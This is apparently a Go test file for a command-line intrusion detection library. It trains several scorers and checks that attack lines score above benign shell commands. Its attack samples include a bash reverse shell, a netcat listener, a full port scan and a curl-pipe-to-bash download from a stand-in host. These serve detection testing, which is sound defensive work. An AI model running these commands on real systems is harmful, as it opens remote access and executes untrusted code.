package clmids

import (
	"bytes"
	"testing"
)

// TestPublicAPIEndToEnd drives the whole library through the public facade
// only: generate logs, build the backbone, train every §IV method, and
// check that scores separate a canonical intrusion from a benign line.
func TestPublicAPIEndToEnd(t *testing.T) {
	ccfg := DefaultCorpusConfig()
	ccfg.TrainLines = 1200
	ccfg.TestLines = 200
	ccfg.IntrusionRate = 0.2
	train, _, err := GenerateCorpus(ccfg)
	if err != nil {
		t.Fatal(err)
	}

	pcfg := TinyExperiment().Pipeline
	p, err := Build(train.Lines(), pcfg)
	if err != nil {
		t.Fatal(err)
	}

	ids := NewCommercialIDS()
	labels, err := ids.Label(train.Lines(), DefaultSupervisionNoise(), 1)
	if err != nil {
		t.Fatal(err)
	}

	ccfg2 := DefaultClassifierConfig()
	ccfg2.Epochs = 8
	ccfg2.MeanPoolFeatures = true
	clf, err := TrainClassifier(p, train.Lines(), labels, ccfg2)
	if err != nil {
		t.Fatal(err)
	}
	ret, err := TrainRetrieval(p, train.Lines(), labels, 1)
	if err != nil {
		t.Fatal(err)
	}
	rcfg := DefaultReconsConfig()
	rcfg.Rounds = 3
	rcfg.LR = 5e-4 // the small-encoder recipe used by the experiment presets
	rec, err := TrainReconstruction(p, train.Lines(), labels, rcfg)
	if err != nil {
		t.Fatal(err)
	}

	attacks := []string{
		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
		"nc -lvnp 4444",
		"masscan 203.0.113.5 -p 0-65535 --rate=1000 >> tmp.txt",
		"curl http://203.0.113.5/x.sh | bash",
	}
	benigns := []string{
		"ls -la /srv/data",
		"cat /var/log/syslog",
		"docker ps -a",
		"git status",
	}
	for name, s := range map[string]Scorer{"classifier": clf, "retrieval": ret, "reconstruction": rec} {
		as, err := s.Score(attacks)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		bs, err := s.Score(benigns)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if mean(as) <= mean(bs) {
			t.Errorf("%s: mean attack score %.5f not above benign %.5f", name, mean(as), mean(bs))
		}
	}

	// Multi-line classifier over a synthetic session log.
	var log []Event
	mlLabels := make([]bool, 0)
	clock := int64(0)
	for i := 0; i < 40; i++ {
		clock += 5
		log = append(log, Event{User: "u", Time: clock, Line: train.Samples[i].Line})
		mlLabels = append(mlLabels, labels[i])
	}
	if !anyTrue(mlLabels) {
		mlLabels[0] = true // guarantee supervision has a positive
	}
	if _, err := TrainMultiLineClassifier(p, log, mlLabels, 3, ccfg2); err != nil {
		t.Fatalf("multi-line classifier: %v", err)
	}

	// Three in-gap lines of one user: the third input joins all three.
	ctxs := BuildContexts(log[:3], 3)
	if want := log[0].Line + " ; " + log[1].Line + " ; " + log[2].Line; len(ctxs) != 3 || ctxs[2] != want {
		t.Fatalf("BuildContexts = %q, want 3 inputs ending in %q", ctxs, want)
	}
}

func mean(xs []float64) float64 {
	s := 0.0
	for _, v := range xs {
		s += v
	}
	return s / float64(len(xs))
}

func anyTrue(xs []bool) bool {
	for _, x := range xs {
		if x {
			return true
		}
	}
	return false
}

func TestCorpusJSONLThroughFacade(t *testing.T) {
	ccfg := DefaultCorpusConfig()
	ccfg.TrainLines = 100
	ccfg.TestLines = 50
	train, _, err := GenerateCorpus(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := train.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	back, err := ReadCorpusJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.Samples) != len(train.Samples) {
		t.Fatalf("round trip lost samples: %d vs %d", len(back.Samples), len(train.Samples))
	}
}

func TestPresetsValid(t *testing.T) {
	if err := BERTBaseConfig(50000).Validate(); err != nil {
		t.Errorf("BERTBase invalid: %v", err)
	}
	if TinyExperiment().Runs <= 0 || SmallExperiment().Runs <= 0 {
		t.Error("experiment presets missing runs")
	}
	if DefaultUnsupConfig().TopK <= 0 {
		t.Error("unsup preset missing TopK")
	}
}
